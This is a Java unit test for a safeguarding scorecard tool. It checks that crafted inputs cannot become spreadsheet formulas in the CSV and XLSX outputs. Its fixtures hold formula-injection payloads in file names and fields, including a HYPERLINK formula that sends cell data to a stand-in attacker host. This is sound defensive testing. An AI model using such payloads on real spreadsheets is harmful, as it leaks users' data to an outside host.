package uk.safeguarding.scorecard.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import uk.safeguarding.scorecard.export.CsvTable;

/**
 * A report and a notification spreadsheet crafted to inject formulas (text and file names
 * starting with = + - @): no cell of any output CSV starts a formula, and the workbooks hold such
 * text only as quote-prefixed string cells.
 */
class FormulaInjectionTest {
    private static final String TRIGGERS = "=+-@\t\r";

    @TempDir
    Path work;

    @Test
    void craftedInputsNeverBecomeFormulas() throws Exception {
        Path reports = Files.createDirectories(work.resolve("reports"));
        Files.writeString(reports.resolve("=cmd_2024-25.txt"), """
                Our work on reviews

                =HYPERLINK("http://attacker.example/?leak="&A1,"Click") During the year the partnership completed 4 \
                rapid reviews and published the Child K local child safeguarding practice review in March.

                @SUM(1+1) Partners told us training was good.
                """);
        Path notifications = Files.createDirectories(work.resolve("notifications"));
        Files.writeString(notifications.resolve("+returns.csv"), """
                notification_id,child_ref,local_authority,la_aware_date,notified_date,incident_type
                "=HYPERLINK(""http://attacker.example"")",@child,Leeds,01/04/2024,05/04/2024,Serious harm
                -2+3,=1+1,Leeds,01/04/2024,05/04/2024,Child death
                """);
        Path data = work.resolve("data");
        assertThat(ScorecardCommand.execute("yearly-reports", "--input", reports.toString(), "--output",
                work.resolve("out-reports").toString(), "--data", data.toString(), "--as-of", "2025-06-30")).isZero();
        assertThat(ScorecardCommand.execute("notifications", "--input", notifications.toString(), "--output",
                work.resolve("out-notifications").toString(), "--data", data.toString(), "--as-of", "2025-06-30")).isZero();

        int injected = 0;
        for (Path dir : List.of(work.resolve("out-reports"), work.resolve("out-notifications"))) {
            try (Stream<Path> files = Files.list(dir)) {
                for (Path f : files.filter(p -> p.toString().endsWith(".csv")).toList()) {
                    for (CsvTable.Row row : CsvTable.read(f).rows()) {
                        for (String value : row.values().values()) {
                            assertThat(value.isEmpty() || TRIGGERS.indexOf(value.charAt(0)) < 0)
                                    .as("%s: %s", f.getFileName(), value).isTrue();
                            injected += value.startsWith("'") && value.length() > 1
                                    && TRIGGERS.indexOf(value.charAt(1)) >= 0 ? 1 : 0;
                        }
                    }
                }
            }
        }
        assertThat(injected).as("neutralised cells seen").isGreaterThanOrEqualTo(4);
        assertNoFormulaCells(work.resolve("out-reports").resolve("yearly-report-scorecard.xlsx"));
        assertNoFormulaCells(work.resolve("out-notifications").resolve("notifications-scorecard.xlsx"));
    }

    private static void assertNoFormulaCells(Path xlsx) throws Exception {
        int prefixed = 0;
        try (XSSFWorkbook wb = new XSSFWorkbook(xlsx.toFile())) {
            for (Sheet sheet : wb) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).as("%s %s", sheet.getSheetName(), cell.getAddress())
                                .isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING && !cell.getStringCellValue().isEmpty()
                                && TRIGGERS.indexOf(cell.getStringCellValue().charAt(0)) >= 0) {
                            assertThat(cell.getCellStyle().getQuotePrefixed()).as(cell.getStringCellValue()).isTrue();
                            prefixed++;
                        }
                    }
                }
            }
        }
        assertThat(prefixed).as("quote-prefixed cells in %s", xlsx.getFileName()).isPositive();
    }
}
